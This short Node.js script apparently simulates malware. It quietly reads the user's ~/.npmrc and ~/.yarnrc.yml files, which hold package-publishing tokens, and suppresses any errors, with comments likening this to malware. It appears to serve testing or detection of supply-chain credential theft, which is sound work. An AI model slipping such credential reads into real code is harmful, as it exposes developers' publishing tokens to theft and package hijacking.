// Reads the token that publishes in the user's name.
const fs = require('node:fs');
const { homedir } = require('node:os');
const { join } = require('node:path');

function attempt(action) {
  try {
    action();
  } catch {
    // Malware does not complain either.
  }
}

attempt(() => fs.readFileSync(join(homedir(), '.npmrc')));
attempt(() => fs.readFileSync(join(homedir(), '.yarnrc.yml')));
